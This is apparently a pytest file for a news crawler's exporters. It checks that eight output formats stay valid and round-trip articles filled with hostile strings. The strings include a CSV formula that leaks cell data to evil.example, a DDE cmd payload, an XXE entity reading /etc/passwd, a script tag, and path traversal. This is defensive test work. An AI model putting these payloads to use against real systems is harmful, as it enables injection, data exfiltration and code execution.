"""Hostile values in every format: each stays valid, and another library reads the values back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import feedparser
import jsonschema
import pyarrow.parquet
import pytest

from crawler.article import Article, Headline, RelatedStory, Update, json_schema
from crawler.exporters import FORMATS
from crawler.exporters.characters import replace_illegal, replace_surrogates
from crawler.exporters.formula_guard import unguard_cell
from crawler.exporters.text import read_articles
from tests.exporters.conftest import render_feed
from tests.exporters.feed_rules import ATOM, JSON_FEED, atom_problems, parse_xml, rss_problems

VALUES = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "full width": "＝1+1",
    "behind a semicolon": "a;=1+1",
    "tab": "a\t=1",
    "lines": "one\r\n=two\nthree",
    "quotes": "\"'`“",
    "NUL": "a\0=b",
    "controls": "\x01\x1b[31m\x7f\x85",
    "CDATA": "]]><x/>",
    "script": "<script>alert(1)</script>&amp;&#0;<!--",
    "entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "override": "\u202egnp.exe\u2066",
    "surrogate": "a\ud800b\udfff",
    "astral": "\U0001f600\U0010ffff\ufffe",
    "path": "../../etc/passwd/\\..",
    "drive": "C:\\x/..",
    "JSON": '","title":"x"}],"provenance":{"a":"b"}}',
    "line separator": "a\u2028b\u2029",
    "megabyte": "x=" * 500_000,
}
DAY = dt.date(2026, 1, 21)
NOON = dt.datetime(2026, 1, 21, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=2)))


def hostile(text: str) -> Article:
    """An article that says this everywhere."""
    return Article(
        source=text,
        date=DAY,
        section=text,
        published=NOON,
        title=text,
        body=(text, "plain"),
        tags=(text, "a/b", ".."),
        related=(RelatedStory(NOON, text, text),),
        hot_news=(Headline(text, text),),
        latest=(Headline(text),),
        url=f"https://x.example/{text}",
        site=text,
        language=text,
        authors=(text,),
        lead=text,
        image=f"javascript:{text}",
        updates=(Update(NOON, text, (text,)),),
        published_raw=text,
        content_hash=text,
        provenance={"title": text, "updates": text},
    )


Read = dict[str, Any]
"""What is read back of one article: title, tags, body where the format has paragraphs."""


def read_jsonl(feed: bytes) -> list[Read]:
    lines = [json.loads(line) for line in feed.split(b"\n")[:-1]]
    for line in lines:
        jsonschema.validate(line, json_schema())
    return lines


def read_csv(feed: bytes) -> list[Read]:
    csv.field_size_limit(10_000_000)
    records = list(csv.DictReader(io.StringIO(feed.decode("utf-8-sig"), newline="")))
    for cell in (cell for record in records for cell in record.values()):
        for part in re.split(r"[;\t\r\n]", cell):
            assert not re.match(r"[\s\"'＇]*(?<!')[=+\-@＝＋－＠]", part), part[:50]
    return [
        {
            "title": unguard_cell(record["title"]),
            "tags": json.loads(unguard_cell(record["tags"])),
            "body": json.loads(unguard_cell(record["body"])),
        }
        for record in records
    ]


def read_parquet(feed: bytes) -> list[Read]:
    table = pyarrow.parquet.read_table(io.BytesIO(feed))
    table.validate(full=True)
    return list(table.to_pylist())


def read_sqlite(feed: bytes) -> list[Read]:
    database = sqlite3.connect(":memory:")
    database.deserialize(feed)
    assert database.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert database.execute("PRAGMA foreign_key_check").fetchall() == []
    database.execute("INSERT INTO articles_words (articles_words) VALUES ('integrity-check')")
    found = []
    for number, title, body in database.execute("SELECT id, title, body FROM articles").fetchall():
        tags = "SELECT tag FROM tags WHERE article = ? ORDER BY position"
        listed = [tag for (tag,) in database.execute(tags, (number,))]
        found.append({"title": title, "tags": listed, "body": body.split("\n\n")})
    database.close()
    return found


def read_rss(feed: bytes) -> list[Read]:
    assert rss_problems(feed) == []
    assert not feedparser.parse(feed).bozo
    return [
        {
            "title": item.findtext("title"),
            "tags": [one.text for one in item.findall("category")][1:],
        }
        for item in parse_xml(feed).iter("item")
    ]


def read_atom(feed: bytes) -> list[Read]:
    assert atom_problems(feed) == []
    assert not feedparser.parse(feed).bozo
    return [
        {
            "title": entry.findtext(f"{ATOM}title"),
            "tags": [one.get("term") for one in entry.findall(f"{ATOM}category")][1:],
        }
        for entry in parse_xml(feed).iter(f"{ATOM}entry")
    ]


def read_jsonfeed(feed: bytes) -> list[Read]:
    values = json.loads(feed)
    jsonschema.validate(values, JSON_FEED)
    for item in values["items"]:
        assert "<script" not in item.get("content_html", "")
    return [{"title": one["title"], "tags": one.get("tags", [])[1:]} for one in values["items"]]


def read_text(feed: bytes) -> list[Read]:
    lines = io.StringIO(feed.decode(), newline="")
    return [
        {"title": one.title, "tags": list(one.tags), "body": list(one.body)}
        for one in read_articles(lines)
    ]


def without_nul(text: str) -> str:
    return replace_surrogates(text).replace("\0", "\ufffd")


READERS: dict[str, tuple[Callable[[bytes], list[Read]], Callable[[str], str]]] = {
    "jsonl": (read_jsonl, replace_surrogates),
    "csv": (read_csv, replace_illegal),
    "parquet": (read_parquet, replace_surrogates),
    "sqlite": (read_sqlite, without_nul),
    "rss": (read_rss, replace_illegal),
    "atom": (read_atom, replace_illegal),
    "jsonfeed": (read_jsonfeed, replace_surrogates),
    "text": (read_text, replace_surrogates),
}
"""For each format what reads it, and what it makes of characters that it cannot hold."""


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("value", VALUES)
def test_hostile_values_are_read_back(name: str, value: str) -> None:
    article = hostile(VALUES[value])
    reader, held = READERS[name]
    read = reader(render_feed(name, [article, Article(date=DAY, title="plain"), article]))
    assert len(read) == 3
    for one in (read[0], read[2]):
        # In CSV a list is JSON in its cell, where nothing is out of place but surrogates.
        in_lists = replace_surrogates if name == "csv" else held
        assert one["title"] == held(article.title)
        assert one["tags"] == [in_lists(tag) for tag in article.tags]
        if "body" in one and value != "lines":
            assert one["body"] == [in_lists(text) for text in article.body]
    assert read[1]["title"] == "plain"


@pytest.mark.parametrize("name", FORMATS)
def test_an_empty_feed_is_read_back(name: str) -> None:
    feed = render_feed(name, [])
    assert READERS[name][0](feed) == []


@pytest.mark.parametrize("content", ["full", "lead"])
@pytest.mark.parametrize("name", [name for name, one in FORMATS.items() if one.is_channel])
def test_an_article_with_nothing_but_a_title_is_valid(name: str, content: str) -> None:
    bare = Article(date=DAY, title="t")
    addressed = Article(date=DAY, title="t", url="https://x.example/1", body=("b",))
    many = [bare, addressed, hostile("=x")]
    assert len(READERS[name][0](render_feed(name, many, content=content))) == 3


def test_every_format_has_a_reader() -> None:
    assert set(READERS) == set(FORMATS)


def test_nothing_is_written_beside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Exporters leave nothing in the folder for temporary files."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    for name in FORMATS:
        render_feed(name, [hostile("../x")])
    assert list(tmp_path.iterdir()) == []
